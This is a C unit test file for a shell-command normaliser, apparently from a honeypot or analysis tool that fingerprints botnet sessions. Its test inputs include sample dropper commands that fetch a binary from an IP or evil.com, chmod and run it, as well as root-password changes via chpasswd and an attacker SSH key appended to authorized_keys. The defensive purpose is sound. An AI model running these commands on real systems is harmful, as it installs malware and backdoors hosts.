/* test_normalise.c — pins the normal form (normalise.h, version 1): every placeholder, the
 * names that must stay (bins.sh, x86_64, libc.so.6, .ssh, armv7l, -9, chmod modes), password
 * context (chpasswd, passwd, usermod -p, sshpass, openssl passwd), redirections and
 * here-documents, and the property fingerprints rely on: two runs of one bot script that differ
 * only in C2 address, URL, random name and password normalise identically, a different
 * command does not. */
#include "check.h"
#include "understand/normalise.h"
#include "understand/shell.h"

static ap_arena A;

static const char *word(const char *w)
{
    ap_str out;
    if (ap_normalise_word(ap_str_c(w), &A, &out) != AP_OK)
        return "(error)";
    return out.p;
}

/* Normal forms of every statement of `in`, joined by " ; ". */
static const char *stmts(const char *in)
{
    ap_stmt *s;
    size_t n;
    if (ap_shell_parse(ap_str_c(in), NULL, &A, &s, &n, NULL) != AP_OK)
        return "(error)";
    static char buf[4096];
    size_t k = 0;
    buf[0] = '\0';
    for (size_t i = 0; i < n; i++) {
        ap_str out;
        if (ap_normalise_stmt(&s[i], &A, &out) != AP_OK)
            return "(error)";
        if (strlen(out.p) != out.n)
            return "(not NUL-terminated at its length)";
        k += (size_t)snprintf(buf + k, sizeof buf - k, "%s%s", i ? " ; " : "", out.p);
        if (k >= sizeof buf)
            return "(too long)";
    }
    return buf;
}

static void test_placeholders(void)
{
    CHECK_EQ_STR(word("http://1.2.3.4/bins.sh"), "<url>");
    CHECK_EQ_STR(word("--url=HTTPS://evil.example.com/a?b=1&c=2"), "--url=<url>");
    CHECK_EQ_STR(word("1.2.3.4"), "<ip>");
    CHECK_EQ_STR(word("1.2.3.4:8080"), "<ip>:<port>");
    CHECK_EQ_STR(word("root@10.0.0.254"), "root@<ip>");
    CHECK_EQ_STR(word("256.1.1.1"), "256.1.1.1"); /* dotted numbers stay */
    CHECK_EQ_STR(word("2001:db8::1"), "<ip6>");
    CHECK_EQ_STR(word("[::1]"), "[<ip6>]");
    CHECK_EQ_STR(word("fe80::a00:27ff:fe4e:66a1"), "<ip6>");
    CHECK_EQ_STR(word("pool.minexmr.com:4444"), "<domain>:<port>");
    CHECK_EQ_STR(word("localhost:3333"), "localhost:<port>");
    CHECK_EQ_STR(word("x@mail.example.org"), "<email>");
    CHECK_EQ_STR(word("d41d8cd98f00b204e9800998ecf8427e"), "<hash>");
    CHECK_EQ_STR(word("da39a3ee5e6b4b0d3255bfef95601890afd80709"), "<hash>");
    CHECK_EQ_STR(word("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
                 "<hash>");
    CHECK_EQ_STR(word("550e8400-e29b-41d4-a716-446655440000"), "<uuid>");
    CHECK_EQ_STR(word("0xdeadbeef00"), "<hex>");
    CHECK_EQ_STR(word("0x742d35Cc6634C0532925a3b844Bc454e4438f44e"), "<wallet>");
    CHECK_EQ_STR(word("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), "<wallet>");
    CHECK_EQ_STR(word("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"), "<wallet>");
    CHECK_EQ_STR(word("48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9UR"
                      "nRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"),
                 "<wallet>");
    CHECK_EQ_STR(word("aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q="), "<b64>");
    CHECK_EQ_STR(word("AAAAB3NzaC1yc2EAAAADAQABAAABAQC8nG2Y7ZjW3Q9Tq1xX9mQpL+5vPz8sK3hF2aB4cD6"),
                 "<b64>");
    CHECK_EQ_STR(word("/tmp/.Xa9fK2"), "/tmp/.<tmp>");
    CHECK_EQ_STR(word("/var/tmp/a3f9e1b2c4"), "/var/tmp/<tmp>");
    CHECK_EQ_STR(word("tmp.Q2w9ErT5yU1iO3pA7sD9fG"), "tmp.<tmp>");
    CHECK_EQ_STR(word("count=10"), "count=<num>");
    CHECK_EQ_STR(word("--retries=20"), "--retries=<num>");
    CHECK_EQ_STR(word("12:30:00"), "<num>:<num>:<num>");
}

static void test_kept(void)
{
    static const char *const kept[] = {
        "bins.sh", "x86_64", "libc.so.6", ".ssh", "authorized_keys", "armv7l", "sha256sum",
        "python3", "-9", "2.6.32", "0.5", "/etc/init.d", "sshd.service", "config.json",
        "root:x:0:0::/root:/bin/bash", "go=", "+x", "mdrfckr", "ECCHI", "/dev/null", "i686",
        "X11Forwarding", "aarch64", "~/.ssh/authorized_keys", "a.tar.gz", "$HOME", "$(id)", "",
        "ab:cd:ef", "-oL",
    };
    for (size_t k = 0; k < sizeof kept / sizeof kept[0]; k++) {
        const char *got = word(kept[k]);
        if (strcmp(got, kept[k]) != 0)
            fprintf(stderr, "kept word \"%s\" became \"%s\"\n", kept[k], got);
        CHECK_EQ_STR(got, kept[k]);
    }
    /* NUL and invalid UTF-8 pass through unchanged, length-exact */
    ap_str out;
    CHECK(ap_normalise_word(ap_str_make("a\0\xff" "b", 4), &A, &out) == AP_OK);
    CHECK_EQ_INT(out.n, 4);
    CHECK(memcmp(out.p, "a\0\xff" "b", 4) == 0);
}

static void test_statements(void)
{
    CHECK_EQ_STR(stmts("cat /proc/cpuinfo | grep name | wc -l"),
                 "cat /proc/cpuinfo ; grep name ; wc -l");
    CHECK_EQ_STR(stmts("/bin/busybox wget http://1.2.3.4/x -O /tmp/.Xa9fK2; /bin/busybox ECCHI"),
                 "wget <url> -O /tmp/.<tmp> ; ECCHI");
    CHECK_EQ_STR(stmts("cd /tmp; chmod 777 bins.sh; chmod 0755 x; kill -9 1234; sleep 10"),
                 "cd /tmp ; chmod 777 bins.sh ; chmod 0755 x ; kill -9 <num> ; sleep <num>");
    CHECK_EQ_STR(stmts("mkdir -m 700 /root/.ssh; install -m 644 a b"),
                 "mkdir -m 700 /root/.ssh ; install -m 644 a b");
    CHECK_EQ_STR(stmts("echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC8nG2Y7ZjW3Q9Tq1xX9mQpL+5vPz8 "
                       "mdrfckr\">>.ssh/authorized_keys 2>&1"),
                 "echo ssh-rsa <b64> mdrfckr >> .ssh/authorized_keys 2>&1");
    CHECK_EQ_STR(stmts("cat > ~/.ssh/authorized_keys <<EOF\nssh-rsa AAAA k\nEOF"),
                 "cat > ~/.ssh/authorized_keys <<<heredoc>");
    CHECK_EQ_STR(stmts("FOO=10 BAR=1.2.3.4; >/tmp/x"), "FOO=<num> BAR=<ip> ; > /tmp/x");
    CHECK_EQ_STR(stmts("sudo -u root nohup wget -q http://evil.com/x"), "wget -q <url>");
}

static void test_passwords(void)
{
    CHECK_EQ_STR(stmts("echo \"root:Xy7pQ\"|chpasswd|bash"), "echo root:<pw> ; chpasswd ; bash");
    CHECK_EQ_STR(stmts("echo -e \"Xy7pQ\\nXy7pQ\" | passwd"), "echo -e <pw>\\n<pw> ; passwd");
    CHECK_EQ_STR(stmts("printf 'pw1\\npw1\\n' | passwd root"),
                 "printf <pw>\\n<pw>\\n ; passwd root");
    CHECK_EQ_STR(stmts("echo -e \"admin:a1\\nroot:b2\" | chpasswd"),
                 "echo -e admin:<pw>\\nroot:<pw> ; chpasswd");
    CHECK_EQ_STR(stmts("chpasswd <<< 'root:hunter2'"), "chpasswd <<< root:<pw>");
    CHECK_EQ_STR(stmts("usermod -p secret root; useradd -m -p '$6$x$y' bob"),
                 "usermod -p <pw> root ; useradd -m -p <pw> bob");
    CHECK_EQ_STR(stmts("sshpass -p 'Pa55' ssh root@1.2.3.4; openssl passwd -1 -salt ab hunter2"),
                 "sshpass -p <pw> ssh root@<ip> ; openssl passwd -1 -salt ab <pw>");
    CHECK_EQ_STR(stmts("passwd root newpass"), "passwd root <pw>");
    /* echo piped elsewhere keeps its text */
    CHECK_EQ_STR(stmts("echo root:abc | grep root"), "echo root:abc ; grep root");
}

static void test_bot_runs_match(void)
{
    /* two runs of the same dropper: different C2, file name, password, port and counts */
    const char *run1 = "cd /tmp || cd /var/run; wget http://45.9.148.99/bins/x86 -O .Xa9fK2; "
                       "chmod 777 .Xa9fK2; ./.Xa9fK2 ssh.exploit 45.9.148.99:1337; "
                       "echo \"root:Qw8eRt5y\"|chpasswd; sleep 30";
    const char *run2 = "cd /tmp || cd /var/run; wget http://103.14.2.7/bins/x86 -O .Lm3nB7vZ; "
                       "chmod 777 .Lm3nB7vZ; ./.Lm3nB7vZ ssh.exploit 103.14.2.7:4444; "
                       "echo \"root:Zx1cVb9n\"|chpasswd; sleep 45";
    char first[4096];
    snprintf(first, sizeof first, "%s", stmts(run1));
    const char *second = stmts(run2);
    CHECK_EQ_STR(first, second);
    CHECK_EQ_STR(first, "cd /tmp ; cd /var/run ; wget <url> -O .<tmp> ; chmod 777 .<tmp> ; "
                        ".<tmp> <domain> <ip>:<port> ; echo root:<pw> ; chpasswd ; "
                        "sleep <num>");
    /* a different command is a different normal form */
    const char *run3 = "cd /tmp || cd /var/run; curl http://45.9.148.99/bins/x86 -O .Xa9fK2; "
                       "chmod 777 .Xa9fK2; ./.Xa9fK2 ssh.exploit 45.9.148.99:1337; "
                       "echo \"root:Qw8eRt5y\"|chpasswd; sleep 30";
    CHECK(strcmp(first, stmts(run3)) != 0);
    const char *run4 = "cd /tmp || cd /var/run; wget http://45.9.148.99/bins/x86 -O .Xa9fK2; "
                       "chmod 755 .Xa9fK2; ./.Xa9fK2 ssh.exploit 45.9.148.99:1337; "
                       "echo \"root:Qw8eRt5y\"|chpasswd; sleep 30";
    CHECK(strcmp(first, stmts(run4)) != 0);
}

static void test_deterministic(void)
{
    /* the same statement gives the same bytes whatever was normalised before */
    char a[256];
    const char *in = "wget http://1.2.3.4/a; echo d41d8cd98f00b204e9800998ecf8427e";
    snprintf(a, sizeof a, "%s", stmts(in));
    for (int k = 0; k < 3; k++) {
        stmts("echo unrelated 10 20 30 http://x.y/z");
        CHECK_EQ_STR(stmts(in), a);
    }
    CHECK_EQ_INT(AP_NORMALISE_VERSION, 1);
}

int main(void)
{
    ap_arena_init(&A, 1 << 16);
    test_placeholders();
    test_kept();
    test_statements();
    test_passwords();
    test_bot_runs_match();
    test_deterministic();
    ap_arena_free(&A);
    CHECK_DONE();
}
